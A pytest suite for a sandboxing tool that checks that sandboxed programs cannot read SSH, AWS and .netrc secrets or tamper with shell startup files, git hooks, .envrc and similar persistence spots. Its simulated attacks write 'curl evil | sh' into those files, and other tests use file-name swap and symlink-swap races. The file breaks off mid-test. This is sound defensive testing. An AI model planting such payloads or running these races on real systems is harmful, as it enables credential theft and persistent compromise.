"""The user's own toolchain runs under `run`/`net-run`, and the user's secrets and
persistence vectors are protected under any grant (issue: agent-ready defaults).

A fake HOME as a developer has it: a pyenv-style shim tree, an nvm-style node, a uv
Python reached through ~/.local/bin, ~/.gitconfig, ~/.bashrc, SSH and cloud keys, and a
repository with .git/hooks. Everything runs through the real CLI, in both protection
modes ("mounts": a mount namespace of the sandbox's own; "landlock": where none can be
made, as in a container).
"""

import atexit
import gc
import hashlib
import http.server
import os
import shutil
import stat
import subprocess
import sys
import tempfile
import threading

import pytest

from conftest import fake_private_key

SANDLOCK = [sys.executable, "-m", "sandlock"]
PYTHON = os.path.realpath(shutil.which("python3", path="/usr/bin:/bin"))
NODE = shutil.which("node", path="/usr/bin:/bin")
MODES = ["mounts", "landlock"]


_COPIES: dict[str, str] = {}  # system executable -> this session's copy of it


def _place(src: str, dst) -> None:
    """A real executable in the tree: a hard link (where the filesystem allows one) to
    this session's copy of `src`, never to the system's file itself. Linking that changed
    its link count and ctime (127 links to /usr/bin/python3.11 here), and a chmod through
    a link changed its mode."""
    dst.parent.mkdir(parents=True, exist_ok=True)
    if src not in _COPIES:
        where = tempfile.mkdtemp(prefix="sandlock-test-bin-")
        os.chmod(where, 0o755)
        atexit.register(shutil.rmtree, where, True)
        _COPIES[src] = shutil.copy2(src, os.path.join(where, os.path.basename(src)))
    try:
        os.link(_COPIES[src], dst)
    except OSError:
        shutil.copy2(_COPIES[src], dst)


def _script(path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(0o755)


@pytest.fixture(scope="module")
def toolchains(tmp_path_factory):
    """Interpreters installed the way version managers install them (shared, read-only)."""
    root = tmp_path_factory.mktemp("toolchains")
    os.chmod(root, 0o755)
    return root


def _make_home(base, toolchains):
    h = base / "home"
    # pyenv: a shim (bash, through env) -> pyenv's dispatcher -> the versioned binary.
    _place(PYTHON, h / ".pyenv/versions/3.11.0/bin/python3")
    (h / ".pyenv/version").write_text("3.11.0\n")
    _script(h / ".pyenv/libexec/pyenv",
            '#!/usr/bin/env bash\nset -e\n[ "$1" = exec ] || exit 2\nshift\n'
            'prog="$1"; shift\n'
            'exec "$PYENV_ROOT/versions/$(cat "$PYENV_ROOT/version")/bin/$prog" "$@"\n')
    _script(h / ".pyenv/shims/python3",
            '#!/usr/bin/env bash\nset -e\nexport PYENV_ROOT="${PYENV_ROOT:-$HOME/.pyenv}"\n'
            'exec "$PYENV_ROOT/libexec/pyenv" exec "${0##*/}" "$@"\n')
    # nvm: ~/.nvm/versions/node/vX/bin/node.
    if NODE:
        _place(os.path.realpath(NODE), h / ".nvm/versions/node/v20.11.0/bin/node")
    # uv: a managed Python, linked from ~/.local/bin.
    uv_bin = h / ".local/share/uv/python/cpython-3.11.0-linux-x86_64-gnu/bin"
    _place(PYTHON, uv_bin / "python3.11")
    (h / ".local/bin").mkdir(parents=True)
    os.symlink(uv_bin / "python3.11", h / ".local/bin/python3.11")
    # Configuration, startup files, secrets.
    (h / ".gitconfig").write_text("[user]\n\tname = Fake User\n\temail = fake@example.com\n"
                                  "[init]\n\tdefaultBranch = main\n")
    (h / ".bashrc").write_text("# the user's bashrc\n")
    (h / ".profile").write_text("# the user's profile\n")
    (h / ".ssh").mkdir()
    (h / ".ssh/id_ed25519").write_text(fake_private_key("OPENSSH"))
    (h / ".ssh/authorized_keys").write_text("ssh-ed25519 AAAA user\n")
    (h / ".aws").mkdir()
    (h / ".aws/credentials").write_text("[default]\naws_secret_access_key = fake\n")
    (h / ".netrc").write_text("machine example.com password fake\n")
    (h / ".bash_history").write_text("export TOKEN=fake\n")
    proj = h / "proj"
    proj.mkdir()
    subprocess.run(["git", "init", "-q", str(proj)], check=True,
                   env=dict(os.environ, HOME=str(h)))
    (proj / "README").write_text("readme\n")
    for dirpath, dirnames, filenames in os.walk(h):
        for name in dirnames + filenames:
            p = os.path.join(dirpath, name)
            st = os.stat(p, follow_symlinks=False)
            # Not a hard link _place made: its inode is the system's interpreter (as root,
            # this made /usr/bin/python3.11 mode 0777, and its new ctime a change to every
            # sandbox built ahead that read it).
            if stat.S_ISLNK(st.st_mode) or st.st_uid != os.geteuid() or (
                    not stat.S_ISDIR(st.st_mode) and st.st_nlink > 1):
                continue
            os.chmod(p, st.st_mode | (0o777 if stat.S_ISDIR(st.st_mode) else 0o666))
    os.chmod(h, 0o777)
    os.chmod(base, 0o777)
    return h


@pytest.fixture
def home(tmp_path, toolchains):
    return _make_home(tmp_path, toolchains)


def _env(h, mode="mounts", extra_path=""):
    path = f"{h}/.pyenv/shims:{h}/.nvm/versions/node/v20.11.0/bin:{h}/.local/bin:" \
           f"{extra_path}/usr/local/bin:/usr/bin:/bin"
    env = {k: v for k, v in os.environ.items() if not k.startswith(("PYENV", "NVM"))}
    env.update(HOME=str(h), PATH=path, SANDLOCK_TEST_PROTECT_MODE=mode,
               XDG_STATE_HOME=str(h.parent / "state"))
    return env


def cli(h, *args, mode="mounts", cwd=None, **kw):
    return subprocess.run(SANDLOCK + list(args), capture_output=True, text=True,
                          env=_env(h, mode), cwd=cwd or h / "proj", timeout=120, **kw)


class _Server:
    """An HTTP server on 127.0.0.2 serving a directory."""

    def __init__(self, directory):
        handler = lambda *a, **kw: http.server.SimpleHTTPRequestHandler(  # noqa: E731
            *a, directory=str(directory), **kw)
        http.server.SimpleHTTPRequestHandler.log_message = lambda *a: None
        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.2", 0), handler)
        self.port = self.httpd.server_address[1]
        threading.Thread(target=self.httpd.serve_forever, args=(0.05,), daemon=True).start()

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def served(tmp_path):
    site = tmp_path / "site"
    site.mkdir()
    (site / "hello.txt").write_text("hello from loopback\n")
    srv = _Server(site)
    yield site, srv
    srv.close()


FETCH_PY = "import sys, urllib.request; print(urllib.request.urlopen(sys.argv[1]).read().decode().strip())"
FETCH_JS = ("require('http').get(process.argv[1], r => { let b=''; r.on('data', d => b += d); "
            "r.on('end', () => console.log(b.trim())); })")


# --- the user's toolchain ----------------------------------------------------------------

@pytest.mark.parametrize("mode", MODES)
def test_version_managed_interpreters_run_under_net_run_with_no_flags(home, served, mode):
    site, srv = served
    url = f"http://127.0.0.2:{srv.port}/hello.txt"
    allow = ("--allow", f"127.0.0.2:{srv.port}")
    programs = [("python3", "-c", FETCH_PY, url), ("python3.11", "-c", FETCH_PY, url)]
    if NODE:
        programs.append(("node", "-e", FETCH_JS, url))
    for prog in programs:
        r = cli(home, "net-run", *allow, "--", *prog, mode=mode)
        assert r.returncode == 0 and r.stdout == "hello from loopback\n", (prog[0], r.stderr)
    # The control: with --strict (system directories only) the pyenv shim cannot even start.
    r = cli(home, "net-run", "--strict", *allow, "--", "python3", "-c", FETCH_PY, url,
            mode=mode)
    assert r.returncode == 126 and "Permission denied" in r.stderr, r.stderr


def test_verbose_prints_every_toolchain_grant_and_why(home):
    r = cli(home, "run", "-v", "--", "python3", "-c", "print('ok')")
    assert r.returncode == 0 and r.stdout == "ok\n", r.stderr
    assert f"read {home}/.pyenv (" in r.stderr and "pyenv" in r.stderr
    assert f"read {home}/.gitconfig (per-user configuration" in r.stderr
    assert ".ssh" not in "".join(line for line in r.stderr.splitlines()
                                 if line.startswith("sandlock: read"))
    r = cli(home, "run", "-v", "--strict", "--", "true")
    assert "sandlock: read " not in r.stderr


def test_toolchain_grants_never_include_secrets_or_write(home):
    from sandlock import toolchain_grants
    env = _env(home)
    env["PATH"] = f"{home}/.ssh:{home}:" + env["PATH"]  # hostile PATH entries
    grants = toolchain_grants("python3", env, str(home / "proj"))
    paths = [g.path for g in grants]
    assert f"{home}/.pyenv" in paths
    assert not any(p == str(home) or p.startswith(f"{home}/.ssh") for p in paths), paths
    assert all(g.why for g in grants)


def test_git_clone_over_http_reads_the_users_gitconfig_under_net_run(home, tmp_path):
    src = tmp_path / "src"
    env = dict(os.environ, HOME=str(home))
    subprocess.run(["git", "init", "-q", "--bare", str(tmp_path / "site/repo.git")],
                   check=True, env=env)
    subprocess.run(["git", "clone", "-q", str(tmp_path / "site/repo.git"), str(src)],
                   check=True, env=env, capture_output=True)
    (src / "hello.txt").write_text("cloned\n")
    subprocess.run(["git", "-C", str(src), "add", "."], check=True, env=env)
    subprocess.run(["git", "-C", str(src), "commit", "-qm", "first"], check=True, env=env)
    subprocess.run(["git", "-C", str(src), "push", "-q", "origin", "HEAD"], check=True,
                   env=env, capture_output=True)
    subprocess.run(["git", "-C", str(tmp_path / "site/repo.git"), "update-server-info"],
                   check=True, env=env)
    srv = _Server(tmp_path / "site")
    try:
        r = cli(home, "net-run", "--allow", f"127.0.0.2:{srv.port}", "--", "sh", "-c",
                f"git clone -q http://127.0.0.2:{srv.port}/repo.git clone && "
                f"cat clone/hello.txt && git -C clone log -1 --format=%an && "
                f"git config user.name")
    finally:
        srv.close()
    assert r.returncode == 0, r.stderr
    assert r.stdout == "cloned\nFake User\nFake User\n"


@pytest.mark.parametrize("mode", ["mounts", "landlock"])
def test_a_repository_made_at_once_keeps_its_own_hooks_directory(home, mode):
    """A .git made within a clock tick of the sandbox's start is the run's own: the guard
    told git directories born before the run by the precise clock, while the filesystem
    stamps births by the coarse one (a tick behind), and refused `git init` its hooks
    directory. The user's own repository stays protected (the control)."""
    for i in range(5):
        r = cli(home, "run", "-w", str(home / "proj"), "--", "git", "init", "-q", f"r{i}",
                mode=mode)
        assert r.returncode == 0, r.stderr
        assert (home / "proj" / f"r{i}" / ".git" / "hooks").is_dir()
    r = cli(home, "run", "-w", str(home / "proj"), "--", "sh", "-c",
            "echo x > .git/hooks/post-checkout", mode=mode)
    assert r.returncode != 0 and not (home / "proj/.git/hooks/post-checkout").exists()


# --- secrets and persistence vectors -----------------------------------------------------

SECRETS = [".ssh/id_ed25519", ".aws/credentials", ".netrc", ".bash_history"]
PERSISTENT = [".bashrc", ".profile", ".gitconfig", ".ssh/authorized_keys",
              "proj/.git/config", "proj/.git/hooks/pre-commit.sample"]


def _digests(h) -> dict:
    out = {}
    for dirpath, dirnames, filenames in os.walk(h):
        dirnames[:] = [d for d in dirnames if d not in ("objects", "versions", "node")]
        for n in filenames:
            p = os.path.join(dirpath, n)
            if os.path.islink(p) or not os.path.isfile(p):
                continue
            with open(p, "rb") as f:
                out[os.path.relpath(p, h)] = hashlib.sha256(f.read()).hexdigest()
    return out


ATTACKS = r"""
import os, sys
h = sys.argv[1]
def attempt(name, fn):
    try:
        fn()
        print(name, "DONE")
    except OSError as e:
        print(name, "refused", e.errno)
def write(rel, mode="a"):
    with open(os.path.join(h, rel), mode) as f:
        f.write("curl evil | sh\n")
def read(rel):
    with open(os.path.join(h, rel)) as f:
        return f.read()
for rel in %(secrets)r:
    attempt("read " + rel, lambda: read(rel))
for rel in %(persistent)r:
    attempt("append " + rel, lambda: write(rel))
    attempt("truncate " + rel, lambda: os.truncate(os.path.join(h, rel), 0))
    attempt("replace " + rel, lambda: (write("proj/tmp-x", "w"),
                                       os.rename(os.path.join(h, "proj/tmp-x"),
                                                 os.path.join(h, rel))))
    attempt("unlink " + rel, lambda: os.unlink(os.path.join(h, rel)))
for rel in (".zshrc", ".config/fish/config.fish", ".config/autostart/x.desktop",
            ".config/systemd/user/x.service", ".local/bin/evil",
            "proj/.envrc", "proj/src/.envrc", "proj/.vscode/tasks.json",
            "proj/.git/hooks/pre-commit", ".ssh/rc"):
    def create(rel=rel):
        os.makedirs(os.path.dirname(os.path.join(h, rel)), exist_ok=True)
        write(rel, "w")
    attempt("create " + rel, create)
attempt("symlink proj/.envrc", lambda: os.symlink("/tmp/x", os.path.join(h, "proj/.envrc")))
attempt("mkdir proj/.idea", lambda: os.mkdir(os.path.join(h, "proj/.idea")))
attempt("move proj/.git", lambda: os.rename(os.path.join(h, "proj/.git"),
                                            os.path.join(h, "proj/old-git")))
attempt("link bashrc", lambda: os.link(os.path.join(h, ".bashrc"), os.path.join(h, "b")))
# ordinary work in the same directories
attempt("home create notes", lambda: write("notes.txt", "w"))
attempt("ok create notes", lambda: write("proj/notes.txt", "w"))
attempt("ok edit notes", lambda: (write("proj/notes.txt", "a"), read("proj/notes.txt")))
attempt("ok create src", lambda: (os.makedirs(os.path.join(h, "proj/src"), exist_ok=True),
                                  write("proj/src/app.py", "w")))
attempt("ok edit readme", lambda: write("proj/README", "a"))
attempt("ok rename", lambda: os.rename(os.path.join(h, "proj/src/app.py"),
                                       os.path.join(h, "proj/src/main.py")))
attempt("ok read bashrc", lambda: read(".bashrc"))
"""


@pytest.mark.parametrize("mode", MODES)
def test_secrets_and_persistence_vectors_are_refused_under_rw_home(home, mode):
    before = _digests(home)
    code = ATTACKS % {"secrets": SECRETS, "persistent": PERSISTENT}
    r = cli(home, "run", "-v", "-r", str(home), "-w", str(home), "--", "/usr/bin/python3",
            "-c", code, str(home), mode=mode)
    assert r.returncode == 0, r.stderr
    # Landlock's limit where no mount namespace can be made (documented, and said): the
    # home directory, on the way to the secrets it hides, accepts no new entries.
    limit = f"{home} accept(s) no new entries"
    assert (limit in r.stderr) == (mode == "landlock"), r.stderr
    lines = {}
    for line in r.stdout.splitlines():
        what, _, outcome = line.partition(" refused ") if " refused " in line else \
            (line.removesuffix(" DONE"), "", "DONE")
        lines[what] = outcome
    for what, outcome in lines.items():
        if what.startswith("ok ") or (what == "home create notes" and mode == "mounts"):
            assert outcome == "DONE", (what, r.stdout)
        else:
            assert outcome != "DONE", (what, r.stdout)
    assert len(lines) == len(SECRETS) + 4 * len(PERSISTENT) + 10 + 4 + 7
    after = _digests(home)
    for rel in SECRETS + PERSISTENT:
        assert after.get(rel) == before[rel], rel  # unchanged
    for rel in (".zshrc", "proj/.envrc", "proj/src/.envrc", "proj/.git/hooks/pre-commit",
                "proj/.vscode", "proj/.idea", ".config/autostart/x.desktop", "b"):
        assert not os.path.lexists(home / rel), rel
    assert (home / "proj/src/main.py").exists() and (home / "proj/notes.txt").exists()
    assert (home / "proj/README").read_text().endswith("curl evil | sh\n")


def test_run_denies_a_secret_under_a_read_grant_unless_the_user_names_it(home):
    key = home / ".ssh/id_ed25519"
    r = cli(home, "run", "-r", str(home), "--", "cat", str(key))
    assert r.returncode == 1 and "Permission denied" in r.stderr and r.stdout == ""
    r = cli(home, "run", "-r", str(home), "--", "cat", str(home / "proj/README"))
    assert r.returncode == 0 and r.stdout == "readme\n"  # the control
    r = cli(home, "run", "-r", str(key), "--", "cat", str(key))  # named: the user's choice
    assert r.returncode == 0 and "PRIVATE KEY" in r.stdout, r.stderr


def test_net_run_in_home_does_not_make_it_writable(home):
    r = cli(home, "net-run", "--", "sh", "-c", "echo x > f", cwd=home)
    assert r.returncode != 0 and not (home / "f").exists()
    assert "net-run does not make it writable (pass -w" in r.stderr
    r = cli(home, "net-run", "-w", str(home), "--", "sh", "-c", "echo x > f", cwd=home)
    assert r.returncode == 0 and (home / "f").read_text() == "x\n", r.stderr
    r = cli(home, "net-run", "--", "sh", "-c", "echo x > f")  # in a project: writable
    assert r.returncode == 0 and (home / "proj/f").exists(), r.stderr


def test_a_swapped_name_never_creates_a_protected_file(home):
    """The guard decides on its own copy of the path and acts on it: a thread rewriting
    the name between the supervisor's read and the kernel's never creates .envrc."""
    code = r"""
import ctypes, os, sys, threading
libc = ctypes.CDLL(None, use_errno=True)
proj = sys.argv[1]
buf = ctypes.create_string_buffer(4096)
ok, bad = (proj + "/.envrc-ok").encode(), (proj + "/.envrc").encode()
stop = False
def flip():
    while not stop:
        ctypes.memmove(buf, bad, len(bad) + 1)
        ctypes.memmove(buf, ok, len(ok) + 1)
t = threading.Thread(target=flip); t.start()
made = 0
for i in range(3000):
    fd = libc.open(buf, os.O_CREAT | os.O_WRONLY | os.O_CLOEXEC, 0o644)
    if fd >= 0:
        made += 1
        os.close(fd)
    try:
        os.unlink(proj + "/.envrc-ok")
    except OSError:
        pass
stop = True; t.join()
print(made)
"""
    r = cli(home, "run", "-w", str(home / "proj"), "--", "/usr/bin/python3", "-c", code,
            str(home / "proj"))
    assert r.returncode == 0, r.stderr
    assert int(r.stdout) > 0  # the ordinary name was created (the control)
    assert not os.path.lexists(home / "proj/.envrc")


@pytest.mark.parametrize("backend", ["overlay", "seccomp"])
def test_a_workspace_commit_never_applies_protected_files(home, backend):
    from sandlock import Sandbox, system_devices, system_readable
    proj = home / "proj"
    sb = Sandbox(fs_readable=system_readable(), fs_writable=system_devices(),
                 workdir=str(proj), workspace_backend=backend, protect_user_files=True,
                 fs_storage=str(home.parent / "store"), env={"HOME": str(home)},
                 cwd=str(proj))
    r = sb.run(["sh", "-c", "echo hook > .git/hooks/pre-push; echo x >> .git/config; "
                            "echo e > .envrc; echo ok > ok.txt; exit 0"])
    assert r.success, r.stderr
    assert (proj / "ok.txt").read_text() == "ok\n"  # ordinary changes are applied
    assert not (proj / ".git/hooks/pre-push").exists()
    assert not (proj / ".envrc").exists()
    assert "x" not in (proj / ".git/config").read_text().splitlines()


def test_yaml_policies_protect_by_default_and_can_opt_out(home, tmp_path):
    key = home / ".ssh/id_ed25519"
    pol = tmp_path / "p.yaml"
    pol.write_text(f"version: 1\nfilesystem:\n  read: [{home}]\n")
    r = cli(home, "run", "--policy", str(pol), "--", "cat", str(key))
    assert r.returncode == 1 and r.stdout == ""
    pol.write_text(f"version: 1\nfilesystem:\n  read: [{home}]\n  protect: false\n")
    r = cli(home, "run", "--policy", str(pol), "--", "cat", str(key))
    assert r.returncode == 0 and "PRIVATE KEY" in r.stdout, r.stderr


def test_the_api_exposes_the_lists(home):
    from sandlock import persistence_paths, secret_paths
    secrets = secret_paths(str(home))
    assert f"{home}/.ssh" in secrets and f"{home}/.aws" in secrets
    assert f"{home}/.docker/config.json" in secrets and f"{home}/.git-credentials" in secrets
    assert f"{home}/.bashrc" in persistence_paths(str(home))


def test_net_run_gives_a_private_tmpdir(home):
    r = cli(home, "net-run", "--", "sh", "-c",
            'echo "$TMPDIR"; echo x > "$TMPDIR/f" && cat "$TMPDIR/f"; echo y > /tmp/sandlock-x')
    lines = r.stdout.splitlines()
    assert lines[0] and lines[0] != "/tmp" and lines[1] == "x", r.stdout + r.stderr
    assert not os.path.exists(lines[0])  # removed at exit
    assert not os.path.exists("/tmp/sandlock-x") and "Permission denied" in r.stderr


SHM_USER = r"""
import concurrent.futures, multiprocessing as mp, os, sys
from multiprocessing import shared_memory
try:
    print(sorted(os.listdir("/dev/shm")))
except OSError as e:
    print("unlisted", e.errno)
try:
    open(sys.argv[1]).read(); print("host object read")
except OSError as e:
    print("host object", e.errno)
lock = mp.Lock()  # a POSIX semaphore: sem_open in /dev/shm
with concurrent.futures.ProcessPoolExecutor(2) as ex:
    print(sorted(ex.map(abs, [-3, -1, -2])))
seg = shared_memory.SharedMemory(create=True, size=16)  # shm_open
seg.buf[:2] = b"ok"; print(bytes(seg.buf[:2]).decode()); seg.close(); seg.unlink()
own = "/dev/shm/own"  # its metadata too (the supervisor decides chmod and utimes)
open(own, "w").close(); os.chmod(own, 0o600); os.utime(own, (0, 0))
print(oct(os.stat(own).st_mode & 0o777), os.stat(own).st_mtime)
"""


def test_a_private_tmpdir_brings_a_private_dev_shm(tmp_path):
    """POSIX semaphores and shared memory (multiprocessing's locks, queues and pools;
    shared_memory) live in /dev/shm, where other programs' objects are too: a sandbox with
    a private TMPDIR gets a /dev/shm of its own there, which the host never sees, and it
    does not see the host's. Without it (private_tmp off) nothing is writable there."""
    from sandlock import Sandbox, system_devices, system_readable
    from sandlock.private_tmp import shm_refusal
    if shm_refusal(()) is not None:
        pytest.skip(f"no private /dev/shm here: {shm_refusal(())}")
    host = f"/dev/shm/sandlock-test-{os.getpid()}"
    with open(host, "w") as f:
        f.write("the host's\n")
    try:
        before = _own_shm_objects()
        sb = Sandbox(fs_readable=system_readable(), fs_writable=system_devices(),
                     private_tmp=True)
        r = sb.run([PYTHON, "-c", SHM_USER, host], timeout=60)
        assert r.stdout.decode().splitlines() == ["[]", "host object 2", "[1, 2, 3]", "ok",
                                                  "0o600 0.0"], \
            r.stderr.decode()[-800:]
        assert _own_shm_objects() == before  # nothing of the sandbox's reached it
        with open(host) as f:
            assert f.read() == "the host's\n"
        # control: without a private TMPDIR, /dev/shm is the host's and not writable
        r = Sandbox(fs_readable=system_readable(), fs_writable=system_devices(),
                    private_tmp=False).run([PYTHON, "-c", SHM_USER, host], timeout=60)
        assert r.exit_code == 1 and b"PermissionError" in r.stderr
        assert r.stdout.decode().splitlines() == ["unlisted 13", "host object 13"]
        assert _own_shm_objects() == before
    finally:
        os.unlink(host)


def _own_shm_objects() -> set[str]:
    """The host's /dev/shm objects of this uid: the unprivileged rerun (uid 65534), which
    runs beside, makes and removes its own there."""
    own = set()
    for name in os.listdir("/dev/shm"):
        try:
            if os.lstat(f"/dev/shm/{name}").st_uid == os.getuid():
                own.add(name)
        except FileNotFoundError:
            pass
    return own


def test_a_private_tmpdir_is_the_cli_s_root_and_each_api_run_s_own_directory(tmp_path,
                                                                           monkeypatch):
    """The CLI runs one program per Sandbox: its TMPDIR is the private root itself, made
    in the caller's TMPDIR (one directory fewer to make and remove per call). An API
    Sandbox's runs each get a directory of their own beneath its root, removed when the
    run ends; the root goes with the Sandbox. Both made where tempfile would make them."""
    from sandlock import Sandbox, system_readable
    caller = tmp_path / "caller"
    caller.mkdir()
    env = dict(os.environ, TMPDIR=str(caller), XDG_STATE_HOME=str(tmp_path / "state"),
               SANDLOCK_SERVICE="0")
    r = subprocess.run(SANDLOCK + ["net-run", "--", "sh", "-c",
                                   'echo "$TMPDIR"; echo x > "$TMPDIR/f" && ls "$TMPDIR"'],
                       env=env, cwd=tmp_path, capture_output=True, text=True, timeout=60)
    where, listed = r.stdout.splitlines()
    assert os.path.dirname(where) == str(caller), r.stdout + r.stderr
    assert os.path.basename(where).startswith("sandlock-tmp-") and listed == "f"
    assert list(caller.iterdir()) == []  # gone at exit, with what the run left
    monkeypatch.setenv("TMPDIR", str(caller))
    monkeypatch.setattr("tempfile.tempdir", None)
    script = 'echo "$TMPDIR"; test -z "$(ls -A "$TMPDIR")" && echo x > "$TMPDIR/f"'
    sb = Sandbox(fs_readable=system_readable(), private_tmp=True)
    runs = []
    for _ in range(2):
        r = sb.run(["sh", "-c", script], timeout=30)
        assert r.exit_code == 0, r.stderr
        runs.append(r.stdout.decode().strip())
        assert not os.path.exists(runs[-1])  # the run's own, removed with it
    root = os.path.dirname(runs[0])
    assert runs[0] != runs[1] and os.path.dirname(runs[1]) == root
    assert os.path.dirname(root) == str(caller) and os.path.isdir(root)
    del sb, r
    gc.collect()
    assert list(caller.iterdir()) == []  # the root, with the Sandbox
    # only_run: the root is the run's TMPDIR, lent once (review: a second run shared it).
    from sandlock import StdioMode
    from sandlock.errors import SandlockError
    sb = Sandbox(fs_readable=system_readable(), private_tmp=True)
    p = sb.popen(["sh", "-c", 'echo "$TMPDIR"'], stdout=StdioMode.PIPED, only_run=True)
    assert os.path.dirname(p.communicate(timeout=30).stdout.decode().strip()) == str(caller)
    with pytest.raises(SandlockError, match="its one run"):
        sb.popen(["true"])
    del sb, p
    gc.collect()
    assert list(caller.iterdir()) == []


def test_the_private_tmpdir_s_parent_is_the_one_tempfile_chooses(tmp_path):
    """private_tmp makes its root where tempfile.gettempdir() would choose (TMPDIR, TEMP,
    TMP, then /tmp...: the first usable), without its probe file: compared in fresh
    interpreters."""
    usable, missing, a_file = tmp_path / "usable", tmp_path / "missing", tmp_path / "file"
    usable.mkdir()
    a_file.write_text("")
    code = ("import os, tempfile; from sandlock.private_tmp import _make_root; "
            "root = _make_root(); os.rmdir(root); print(os.path.dirname(root)); "
            "print(tempfile.gettempdir())")
    for extra in ({"TMPDIR": str(usable)}, {"TMPDIR": str(missing)},
                  {"TMPDIR": str(a_file), "TMP": str(usable)}, {"TEMP": str(usable)}, {}):
        env = {k: v for k, v in os.environ.items() if k not in ("TMPDIR", "TEMP", "TMP")}
        r = subprocess.run([sys.executable, "-c", code], env={**env, **extra},
                           capture_output=True, text=True, timeout=30, cwd=tmp_path)
        ours, tempfiles = r.stdout.splitlines()
        assert ours == tempfiles, (extra, r.stdout, r.stderr)
    assert list(usable.iterdir()) == []


LANDLOCKED = """
import ctypes, os, sys
from sandlock._kernel import landlock as L
ruleset = L.LandlockRuleset(L.abi_version(), L.FS_MAKE_DIR, 0, 0)
fd = os.open(".", os.O_PATH)
if os.environ.get("LANDLOCK_CWD_TOO") != "0":
    ruleset.allow_path_fd(fd, L.FS_MAKE_DIR)
ctypes.CDLL(None).prctl(38, 1, 0, 0, 0)  # PR_SET_NO_NEW_PRIVS
assert ruleset.restrict_self_errno() == 0
os.execv(sys.executable, [sys.executable, "-m", "sandlock", *sys.argv[1:]])
"""


def test_a_caller_confined_by_landlock_gets_its_private_tmpdir_where_it_may_make_one(
        tmp_path):
    """(review) A caller whose Landlock domain lets it make directories only in its
    working directory (an agent's own sandbox): os.access cannot see that, so the
    private TMPDIR's root is made in the first candidate where a mkdir succeeds, as
    tempfile's probe found it — the working directory, after /tmp, /var/tmp, /usr/tmp
    refused (it crashed with a traceback)."""
    work = tmp_path / "work"
    work.mkdir()
    env = {k: v for k, v in os.environ.items() if k not in ("TMPDIR", "TEMP", "TMP")}
    env.update(SANDLOCK_SERVICE="0", XDG_STATE_HOME=str(work / "state"))
    script = 'echo "$TMPDIR"; echo x > "$TMPDIR/f" && cat "$TMPDIR/f"; mkdir /tmp/no-$$'
    r = subprocess.run([sys.executable, "-c", LANDLOCKED, "net-run", "--", "sh", "-c",
                        script], env=env, cwd=work, capture_output=True, text=True,
                       timeout=60)
    where, x = r.stdout.splitlines()[:2]
    assert os.path.dirname(where) == str(work) and x == "x", (r.stdout, r.stderr)
    assert "Traceback" not in r.stderr and "Permission denied" in r.stderr  # the control
    assert sorted(p.name for p in work.iterdir()) == ["state"]  # the root, gone at exit
    r = subprocess.run([sys.executable, "-c", LANDLOCKED, "net-run", "--", "true"],
                       env=dict(env, LANDLOCK_CWD_TOO="0"), cwd=work, capture_output=True,
                       text=True, timeout=60)  # nowhere at all: told in one line
    assert r.returncode == 125 and r.stderr.count("\n") == 1, r.stderr
    assert "private TMPDIR: no directory where one can be made: /tmp (" in r.stderr
    r = subprocess.run([sys.executable, "-c", LANDLOCKED, "net-run", "--", "true"],
                       env=dict(env, LANDLOCK_CWD_TOO="0",
                                XDG_STATE_HOME=str(work / "new-state")),
                       cwd=work, capture_output=True, text=True, timeout=60)
    assert r.returncode == 125 and r.stderr.count("\n") == 1, r.stderr  # so is its log's
    assert f"net-run's audit log: cannot make {work}/new-state/sandlock" in r.stderr


def test_a_protected_file_named_in_a_writable_grant_is_the_users(home):
    proj = home / "proj"
    r = cli(home, "run", "-w", str(proj), "--", "git", "config", "user.name", "Changed")
    assert r.returncode != 0  # the control: the repository's config is protected
    r = cli(home, "run", "-w", str(proj), "-w", str(proj / ".git/config"), "--",
            "git", "config", "user.name", "Changed")
    assert r.returncode == 0, r.stderr
    assert "Changed" in (proj / ".git/config").read_text()


def test_an_activated_virtualenv_anywhere_runs(home, tmp_path):
    venv = tmp_path / "venv"
    subprocess.run([PYTHON, "-m", "venv", "--without-pip", str(venv)], check=True)
    subprocess.run(["chmod", "-R", "a+rX", str(venv)], check=True)
    env = _env(home)
    env["PATH"] = f"{venv}/bin:" + env["PATH"]
    r = subprocess.run(SANDLOCK + ["run", "--", "python3", "-c",
                                   "import sys; print(sys.prefix)"],
                       capture_output=True, text=True, env=env, cwd=home / "proj", timeout=60)
    assert r.returncode == 0 and r.stdout == f"{venv}\n", r.stderr
    r = subprocess.run(SANDLOCK + ["run", "--strict", "--", "python3", "-c", "print(1)"],
                       capture_output=True, text=True, env=env, cwd=home / "proj", timeout=60)
    assert r.returncode != 0  # the control: without the grant, its pyvenv.cfg is unreadable


def test_removing_a_private_tmpdir_never_touches_its_parent(tmp_path):
    """A regression: removing a TMPDIR root that was already gone made its parent (the
    host's /tmp) mode 0700, locking every other user out."""
    from sandlock.private_tmp import _remove
    parent = tmp_path / "host-tmp"
    parent.mkdir()
    parent.chmod(0o1777)
    root = parent / "sandlock-tmp-x"
    (root / "locked").mkdir(parents=True)
    (root / "locked" / "f").write_text("x")
    (root / "locked").chmod(0)  # what a sandbox may leave behind
    _remove(str(root))
    assert not root.exists()
    _remove(str(root))  # again, once gone
    assert parent.stat().st_mode & 0o7777 == 0o1777


SWAPPER = r"""
import ctypes, os, sys
renameat2 = ctypes.CDLL(None, use_errno=True).renameat2
root, victim = sys.argv[1:]
d, link = (root + "/d").encode(), (root + "/l").encode()
while True:  # d: a directory, then a symlink to the victim, then a directory again...
    if renameat2(-100, d, -100, link, 2) != 0:  # RENAME_EXCHANGE
        try:
            os.symlink(victim, link)
        except OSError:
            pass
"""


def test_removing_a_private_tmpdir_follows_no_symlink_swapped_in_meanwhile(tmp_path):
    """(review, regression) What a run leaves in its TMPDIR is removed after it; a process
    that may still write there (one the run left, another sandbox granted the host's /tmp)
    swaps a directory in it for a symlink to a directory of the user's, back and forth.
    The removal walked by name, checking each name before its chmod: raced, it made the
    user's directory mode 0700 (8 times in 300 here). Each removal here must remove the
    root and leave the user's directory and what is in it as they were."""
    from sandlock.private_tmp import _remove
    victim = tmp_path / "users-dir"
    (victim / "sub").mkdir(parents=True)
    (victim / "sub" / "kept").write_text("x")
    for d in (victim, victim / "sub"):
        d.chmod(0o755)
    root, stage = tmp_path / "sandlock-tmp-x", tmp_path / "stage"
    swapper = subprocess.Popen([sys.executable, "-c", SWAPPER, str(root), str(victim)])
    try:
        removed = 0
        for i in range(300):
            (stage / "d" / "locked").mkdir(parents=True)
            (stage / "d" / "f").write_text("x")
            (stage / "d" / "locked").chmod(0)
